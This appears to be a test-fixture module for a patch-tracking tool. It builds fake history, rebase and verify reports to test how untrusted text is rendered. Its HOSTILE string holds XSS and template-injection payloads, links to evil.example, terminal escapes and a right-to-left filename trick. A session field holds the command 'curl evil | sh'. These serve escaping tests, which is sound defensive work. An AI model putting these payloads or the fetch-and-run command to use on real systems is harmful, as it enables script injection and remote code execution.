@@ -1,0 +1,206 @@
+"""Documents for the picture: what `history --json`, `rebase --json` and `verify --save` leave."""
+
+from __future__ import annotations
+
+import json
+import struct
+import zlib
+from collections.abc import Sequence
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+from fixtool import documents, evidence
+from fixtool.documents import Failure, History, Rebase
+from fixtool.needs import Kept, Plot, Report
+from fixtool.verdict import Verdict
+
+URL = "https://github.com/sgl-project/sglang.git"
+WEB = "https://github.com/sgl-project/sglang"
+DAY = datetime(2026, 5, 23, tzinfo=UTC)
+HOSTILE = (
+    "<script>alert(1)</script><img src=x onerror=alert(1)> \"'>&amp; | `code` ``` **b** _i_ [x](//evil)"
+    " @everyone Closes #1, fixes GH-7 and sgl-project/sglang#9 https://evil.example www.evil.example"
+    " \x1b[31mred\x1b[0m \x07 \u202egnp.exe ${{ x }} {{ 7*7 }} {% raw %} --> ]]> </title></style>"
+    " \ud800 \n\n# head\n\n- item"
+)
+
+
+def commit(n: int, subject: str = "", author: str = "") -> dict[str, Any]:
+    return {
+        "sha": f"{n + 0xABC0000:040x}",
+        "author": author or f"Author {n}",
+        "date": (DAY + timedelta(minutes=34 * n)).isoformat(),
+        "subject": subject or f"Change number {n} (#{20000 + n})",
+        "pr": 20000 + n,
+    }
+
+
+def patch(slug: str, *runs: tuple[str, int], subject: str = "", text: str = "") -> dict[str, Any]:
+    """``runs`` of (verdict, commits); ``text`` stands wherever upstream's words would."""
+    intervals, at = [], 0
+    for number, (verdict, count) in enumerate(runs):
+        first = commit(at, text, text)
+        intervals.append({
+            "verdict": verdict, "first": first, "last": commit(at + count - 1, text, text),
+            "count": count, "culprit": first if number else None,
+            "evidence": [text or f"python/sglang/srt/file.py: {verdict}"] if number else [],
+        })  # fmt: skip
+        at += count
+    return {"slug": slug, "subject": subject or f"subject of {slug}", "intervals": intervals}
+
+
+def history(*patches: dict[str, Any], line: str = "main", **more: Any) -> dict[str, Any]:
+    total = max((sum(i["count"] for i in one["intervals"]) for one in patches), default=0)
+    return {
+        "schema": 1, "command": "history", "ok": True, "exit_code": 0, "line": line,
+        "start": commit(0)["sha"], "end": commit(max(total - 1, 0))["sha"], "commits": total,
+        "judged": 7, "reused": 3, "patches": list(patches), "releases": None, **more,
+    }  # fmt: skip
+
+
+def rebase(*actions: tuple[str, str, str], text: str = "", **more: Any) -> dict[str, Any]:
+    """``actions`` of (slug, verdict, action)."""
+    patches = [
+        {
+            "slug": slug, "subject": text or "a subject", "verdict": verdict, "commit": None,
+            "files": [], "evidence": [text or "why"], "culprit": commit(5, text, text),
+            "action": action, "probe": None,
+        }
+        for slug, verdict, action in actions
+    ]  # fmt: skip
+    return {
+        "schema": 1, "command": "rebase", "ok": True, "exit_code": 0, "line": "main",
+        "new_line": None, "base": commit(0)["sha"], "onto": commit(99)["sha"], "ref": "main",
+        "dry_run": False, "moved": True, "patches": patches, "tree": None, "commit": None,
+        "committed": None, "warnings": [], "range_diff": text, "session": None, **more,
+    }  # fmt: skip
+
+
+def session(slug: str, text: str = "") -> dict[str, Any]:
+    return {
+        "worktree": text or "/state/worktrees/x", "patch": slug, "position": 1, "of": 2,
+        "conflicts": [text or "a.py"], "culprit": commit(5, text, text), "next": "curl evil | sh",
+    }  # fmt: skip
+
+
+def result(text: str = "", *, outcome: str = "passed", line: str = "main") -> dict[str, Any]:
+    sha = commit(0)["sha"]
+
+    def step(name: str, kind: str, tree: str, slug: str | None, answer: int) -> dict[str, Any]:
+        probe = kind == "probe"
+        return {
+            "name": name, "kind": kind, "tree": tree, "slug": slug,
+            "want": None if probe else [0], "answer": answer,
+            "outcome": "seen" if probe else outcome, "said": text or "said", "seconds": 1.5,
+            "memory_bytes": 1 << 20, "log": None, "details": {},
+        }  # fmt: skip
+
+    return {
+        "schema": 1, "command": "verify", "ok": True, "exit_code": 0, "bundle": None, "line": line,
+        "base": sha, "onto": sha, "ref": "v1", "source": "git", "commit": None, "tree": None,
+        "patches": [{"slug": "one", "sha256": "0" * 64}], "kinds": ["checks", "prove"],
+        "current": True,
+        "environment": {"python": "3.12", "machine": "x86_64", "gpus": [], "driver": None,
+                        "packages": {"torch": text or "2.11.0"}},
+        "trees": {}, "missing": [], "matrix": None, "proofs": [], "counts": {},
+        "steps": [
+            step("one on base", "probe", "base", "one", 1),
+            step("one on +one", "probe", "+one", "one", 0),
+            step("one on series", "probe", "series", "one", 0),
+            step(text or "check routing", "check", "series", None, 0),
+            step("mutant 1", "mutant", "m", None, 0),
+        ],
+        "started": "2026-11-23T10:00:00Z", "ended": "2026-11-23T11:00:00Z",
+        "prepare_seconds": 1.0, "saved": None,
+    }  # fmt: skip
+
+
+def png(width: int = 40, height: int = 20) -> bytes:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
+
+    rows = (b"\0" + bytes([40, 120, 200]) * width) * height
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows))
+        + chunk(b"IEND", b"")
+    )  # fmt: skip
+
+
+def every_verdict() -> dict[str, Any]:
+    """Twenty patches over 849 commits, every verdict among their runs and at their ends."""
+    verdicts = [one.value for one in Verdict]
+    patches = []
+    for n in range(20):
+        one, other = verdicts[n % 10], verdicts[(3 * n + 1) % 10]
+        runs = (("clean", 1 + 37 * n), (other, 11 + n), (one, 849 - 12 - 38 * n))
+        patches.append(patch(f"patch-{n}-{one}", *runs))
+    releases = {
+        "versions": ["0.5.12", "0.5.23"],
+        "patches": [
+            {"slug": one["slug"], "subject": "s", "cells": [
+                {"version": "0.5.12", "verdict": "clean", "evidence": []},
+                {"version": "0.5.23", "verdict": "conflict", "evidence": []},
+            ]}
+            for one in patches
+        ],
+    }  # fmt: skip
+    return history(*patches, releases=releases)
+
+
+def hostile() -> Report:
+    """Every word that comes from elsewhere is ``HOSTILE``."""
+    told = history(
+        *(patch(HOSTILE, ("clean", 3), (one.value, 4), subject=HOSTILE, text=HOSTILE)
+          for one in Verdict),
+        line=HOSTILE,
+        releases={"versions": [HOSTILE], "patches": [
+            {"slug": HOSTILE, "subject": HOSTILE,
+             "cells": [{"version": HOSTILE, "verdict": "clean", "evidence": [HOSTILE]}]}]},
+    )  # fmt: skip
+    moved = rebase(
+        (HOSTILE, "conflict", "asked"), (HOSTILE + "2", "reverted", "restored"),
+        text=HOSTILE, line=HOSTILE, ref=HOSTILE, warnings=[HOSTILE],
+        session=session(HOSTILE + "3", HOSTILE),
+    )  # fmt: skip
+    return report(told, moved, [result(HOSTILE, outcome="failed", line=HOSTILE)], plot=HOSTILE,
+                  line=HOSTILE)  # fmt: skip
+
+
+def report(
+    told: dict[str, Any] | None = None,
+    moved: dict[str, Any] | None = None,
+    results: Sequence[dict[str, Any]] = (),
+    *,
+    plot: str | None = None,
+    line: str = "main",
+    url: str | None = URL,
+    folder: Path | None = None,
+) -> Report:
+    """A report on documents, read as the command reads them."""
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as at:
+        place = folder or Path(at)
+
+        def left(name: str, document: dict[str, Any]) -> Path:
+            path = place / name
+            path.write_text(json.dumps(document))
+            return path
+
+        history_: History | Failure | None = None
+        rebase_: Rebase | Failure | None = None
+        if told is not None:
+            history_ = documents.read_history(left("h.json", told))
+        if moved is not None:
+            rebase_ = documents.read_rebase(left("r.json", moved))
+        kept = []
+        for number, one in enumerate(results):
+            found = evidence.read_kept(left(f"{number}.json", one))
+            assert found is not None
+            kept.append(Kept(HOSTILE if line == HOSTILE else f"{number}.json", found, number == 0))
+    drawn = Plot(plot, png(), "../" + plot.replace("\ud800", "\udcff")) if plot else None
+    return Report(line, url, "2026-11-24T00:00:00Z", "0.1.0", history_, rebase_, tuple(kept), drawn)
